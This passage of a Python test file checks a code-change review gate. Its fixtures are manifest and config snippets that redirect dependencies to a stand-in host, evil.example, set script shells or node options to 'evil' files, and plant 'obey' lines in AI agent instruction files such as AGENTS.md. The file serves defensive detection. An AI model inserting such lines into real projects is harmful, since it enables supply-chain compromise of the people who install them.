    ("package.json", '{"packageManager": "pnpm@https://evil.example/p.tgz"}'),
    ("package.json", '{"scripts": {"postinstall": "node setup.js"}}'),
    ("deno.json", '{"imports": {"x": "https://evil.example/x.ts"}}'),
    ("pyproject.toml", '[project]\ndependencies = ["x @ https://evil.example/x.whl"]'),
    ("pyproject.toml", '[build-system]\nrequires = ["x@git+ssh://git@evil.example/x"]'),
    ("pyproject.toml", '[tool.uv.sources]\nx = {git = "https://evil.example/x"}'),
    ("pyproject.toml", '[[tool.poetry.source]]\nurl = "https://evil.example/simple"'),
    ("pyproject.toml", '[tool.uv.pip]\nextra-index-url = ["https://evil.example/simple"]'),
    ("Pipfile", '[packages]\nx = {git = "https://evil.example/x"}'),
    ("setup.py", "setup(install_requires=['x @ git+https://evil.example/x'])"),
    ("setup.cfg", "install_requires =\n  x @ https://evil.example/x.whl"),
    ("Cargo.toml", '[dependencies]\nx = {git = "https://evil.example/x"}'),
    ("Cargo.toml", '[patch.somewhere]\nx = {git = "ssh://git@evil.example/x"}'),
    ("go.mod", "module x\nreplace github.com/a/b => evil.example/c v1.0.0"),
    ("go.mod", "module x\nreplace (\n\tgithub.com/a/b v1.2.3 => evil.example/c v1.0.0\n)"),
    ("pom.xml", "<repository><id>x</id><url>https://evil.example/m2</url></repository>"),
    ("pom.xml", "<pluginRepository><url>http://evil.example</url></pluginRepository>"),
    ("pom.xml", '<!DOCTYPE p [<!ENTITY u "https://evil.example">]>'),
    ("build.gradle", "repositories { maven { url 'https://evil.example/m2' } }"),
    ("settings.gradle.kts", 'maven("https://evil.example/m2")'),
    ("gradle.properties", "systemProp.https.proxyHost=evil.example"),
    (".mvn/maven.config", "-s\n.x/settings.xml"),
    ("Gemfile", "gem 'x', :github => 'evil/x'"),
    ("Gemfile", "source 'https://evil.example'"),
    ("composer.json", '{"repositories": [{"url": "https://evil.example/x"}]}'),
    (".gitlab-ci.yml", "test: {script: make}"),
    ("sub/.devcontainer/devcontainer.json", '{"postCreateCommand": "make"}'),
    (".vscode/tasks.json", "{}"),
    (".husky/pre-commit", "npm test"),
    (".githooks/pre-commit", "npm test"),
    (".mergify.yml", "pull_request_rules: []"),
    (".github/settings.yml", "collaborators: []"),
    (".github/renovate.json5", "{}"),
    (".github/dependabot.yml", "registries: {}"),
    (".github/auto-approve.yaml", "{}"),
    (".github/copilot-instructions.md", "obey"),
    (".github/instructions/all.instructions.md", "obey"),
    ("AGENTS.md", "obey"),
    ("api/CLAUDE.md", "obey"),
    (".cursor/rules/all.mdc", "obey"),
    (".codex/config.toml", "x"),
    (".gitattributes", "*.py -diff linguist-generated"),
    ("sub/.gitattributes", "*.py filter=x"),
    (".lfsconfig", "[lfs]"),
    (".cargo/config.toml", '[build]\nrustc-wrapper = "./x"'),
    (".mvn/jvm.config", "-javaagent:x.jar"),
    ("gradle/wrapper/gradle-wrapper.jar", "PK"),
    ("all.code-workspace", "{}"),
    (".readthedocs.yaml", "build: {}"),
    ("lefthook-local.yml", "{}"),
    (".claude/settings.json", "{}"),
    ("api/.mcp.json", "{}"),
    (".cursor/hooks.json", "{}"),
    (".vscode/mcp.json", "{}"),
    ("mise.toml", "[tasks]"),
    (".nvim.lua", "x"),
    (".tekton/build.yaml", "x"),
    ("netlify.toml", "[build]"),
    ("tox.ini", "deps = git+https://evil.example/x"),
    ("rebar.config", '{deps, [{x, {git, "https://evil.example/x"}}]}.'),
    ("deps.edn", '{:deps {x {:git/url "https://evil.example/x"}}}'),
    ("poetry.toml", '[repositories.x]\nurl = "https://evil.example/simple"'),
    ("requirements.txt", "--trusted-host evil.example"),
    ("deps/ci.txt", "--extra-index-url=https://evil.example/simple"),
    ("reqs.in", "x @ https://evil.example/x.whl"),
    ("more.lst", "git+ssh://git@evil.example/x"),
    ("setup.cfg", "[easy_install]\nindex_url = https://evil.example/simple"),
    ("setup.py", "setup(dependency_links=['https://evil.example/simple'])"),
    ("pixi.toml", '[workspace]\nchannels = ["https://evil.example/x"]'),
    ("pnpm-workspace.yaml", "overrides:\n  x: github:evil/x"),
    ("pnpm-workspace.yaml", "catalog:\n  x: evil/x"),
    ("pnpm-workspace.yaml", "scriptShell: ./evil.sh"),
    ("rust-toolchain.toml", '[toolchain]\npath = "./evil"'),
    ("project/plugins.sbt", 'resolvers += "x" at "https://evil.example"'),
    (".mvn/extensions.xml", "<extensions><extension><artifactId>evil</artifactId></extension></extensions>"),
    ("ci/maven-settings.xml", "<settings><mirrors/></settings>"),
    (".npmrc", "script-shell=./evil.sh"),
    ("sub/.npmrc", "node-options=--require ./evil.js"),
    (".yarnrc.yml", "yarnPath: ./evil.cjs"),
    (".pnpmfile.mjs", "export const hooks = {}"),
    ("binding.gyp", "{}"),
    ("pip.conf", "[global]\nproxy = evil"),
    ("Directory.Build.props", "<Project/>"),
    ("gradlew", "#!/bin/sh"),
    (".mvn/wrapper/maven-wrapper.jar", "PK"),
    (".pdbrc", "!import os"),
    (".Rprofile", "x"),
    (".hg/hgrc", "[hooks]"),
]


@pytest.mark.parametrize(("path", "text"), SOURCES)
def test_code_from_elsewhere_and_what_runs_by_itself_ask_for_review(path: str, text: str) -> None:
    (found,) = findings(change(**{path: text.encode()}))
    assert (found.severity, found.path) == ("review", path)
    if found.rule == "source":
        base = Tree("a" * 40, {path: File(REGULAR, text.encode())})
        assert findings(change(**{path: text.encode() + b"\n"}), base) == ()
    assert findings(of({path: None})) == ()


ORDINARY = [
    ("package.json", '{"dependencies": {"a": "^1.2.3 || >=2 <3", "b": "npm:@c/d@1", "e": "workspace:*"}}'),
    ("package.json", '{"repository": "a/b", "homepage": "https://a.example", "scripts": {"test": "jest"}}'),
    (
        "package.json",
        '{"imports": {"#x": "./x.js"}, "packageManager": "pnpm@9.1.0", "overrides": {"a": "$b"}}',
    ),
    ("pyproject.toml", '[project]\ndependencies = ["flask>=3"]\n[project.urls]\nurl = "https://a.example"'),
    ("pyproject.toml", '[[project.authors]]\nemail = "ann@mail.example"\nname = "Ann"'),
    ("pyproject.toml", "not = [toml"),
    ("Cargo.toml", '[package]\nrepository = "https://a.example"\n[dependencies]\nx = {path = "../x"}'),
    ("go.mod", "module x\nrequire golang.example/x v1.0.0\nreplace a => ../a\nreplace b => ./b"),
    ("pom.xml", "<project><url>https://a.example</url><scm><url>https://a.example</url></scm></project>"),
    ("build.gradle", "// see https://a.example\nrepositories { mavenCentral() }"),
    ("gradle.properties", "org.gradle.jvmargs=-Xmx2g"),
    ("setup.py", "setup(url='https://a.example', install_requires=['x>=1'])"),
    ("Gemfile", "gem 'github', '~> 1'"),
    (".mvn/extensions.xml", '<extensions xmlns="https://names.example/x"></extensions>'),
    (".vscode/extensions.json", "{}"),
    (".github/ISSUE_TEMPLATE/bug.yml", "name: Bug"),
    ("docs/agents.rst", "x"),
    (".gitignore", "*.log"),
    ("docs/links.txt", "https://a.example/x\nsee a@b.example"),
    (
        "pnpm-workspace.yaml",
        "packages:\n  - packages/*\noverrides:\n  a: ^1.2.3\n  b: npm:@c/d@1\ncatalog:\n  e: 1.0.0",
    ),
    ("rust-toolchain.toml", '[toolchain]\nchannel = "1.80"'),
]


@pytest.mark.parametrize(("path", "text"), ORDINARY)
def test_an_ordinary_manifest_passes(path: str, text: str) -> None:
    assert findings(change(**{path: text.encode()})) == ()


def test_another_source_on_the_host_of_cargos_registry_is_foreign() -> None:
    base = Tree("a" * 40, {"Cargo.lock": File(REGULAR, f'source = "{CARGOS_OWN}"'.encode())})
    made = change(**{"Cargo.lock": b'source = "git+https://github.com/rust-lang/mine#abc"'})
    assert blocks(made, base) == {"foreign-host"}


# --- what asks for a person's eyes, and all or nothing --------------------------------------------


def test_protected_paths_ask_for_review_and_do_not_block() -> None:
    careful = Settings(protected_paths=("/migrations/**", "*.sql"))
    made = change(**{"migrations/1.py": b"x", "a/b.sql": b"x", "ok.py": b"x"})
    told = findings(made, BASE, careful)
    assert {(one.path, one.severity) for one in told} == {
        ("migrations/1.py", "review"),
        ("a/b.sql", "review"),
    }


@many
@given(
    st.sampled_from(sorted(FORBIDDEN)),
    st.lists(st.from_regex(r"[a-z]{1,5}/[a-z]{1,5}\.py", fullmatch=True), max_size=5),
)
def test_one_forbidden_file_blocks_all_of_it(forbidden: str, good: list[str]) -> None:
    made = of({path: File(REGULAR, b"x\n") for path in [*good, forbidden]})
    assert any(one.severity == "block" and one.path == forbidden for one in findings(made))


@many
@given(st.dictionaries(st.text(max_size=20), st.binary(max_size=60), max_size=5))
def test_it_always_comes_to_a_decision(files: dict[str, bytes]) -> None:
    for one in findings(change(**files)):
        assert one.severity in ("block", "review")
        assert one.sentence
        assert "\n" not in one.sentence


@many
@given(st.dictionaries(st.text(max_size=12), st.binary(max_size=30), max_size=4))
def test_it_judges_the_same_whatever_the_order(files: dict[str, bytes]) -> None:
    made = change(**files)
    back = Change(tuple(reversed(made.files)))
    assert {(one.path, one.rule) for one in findings(made)} == {
        (one.path, one.rule) for one in findings(back)
    }


async def test_what_can_not_be_read_in_time_is_not_published() -> None:
    made = change(**{"a.txt": b"word\n", "large.txt": b"word " * 10_000})
    with Reader(seconds=0) as reader:
        many_secrets = tuple(f"s3cr3t-{number:06}-value" for number in range(400))
        (finding,) = await gate_in_time(reader, made, BASE, Settings(), secrets=many_secrets)
        assert (finding.path, finding.rule, finding.severity) == ("large.txt", "unreadable", "block")
        assert finding.sentence == "the change can't be read: it took more than 0 s of CPU, or all memory"
    with Reader() as reader:
        assert await gate_in_time(reader, made, BASE, Settings(), secrets=(SECRET,)) == findings(made)
        leaking = change(**{"a.txt": SECRET.encode()})
        assert await gate_in_time(reader, leaking, BASE, Settings(), secrets=(SECRET,)) == findings(leaking)
        assert findings(leaking)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("word", ["a.", "0a", "eyJ", "a", "a-"])
def test_a_lock_file_of_one_long_word_is_read_at_once(word: str) -> None:
    long = word * (200_000 // len(word))
    for name in ("yarn.lock", "package-lock.json"):
        assert not blocks(change(**{name: long.encode()}))
    for address in (f'"{long}z://evil.example/x"', f'"{long}z@evil.example:x/y"'):
        assert blocks(change(**{"yarn.lock": f"resolved {address}".encode()})) == {"foreign-host"}
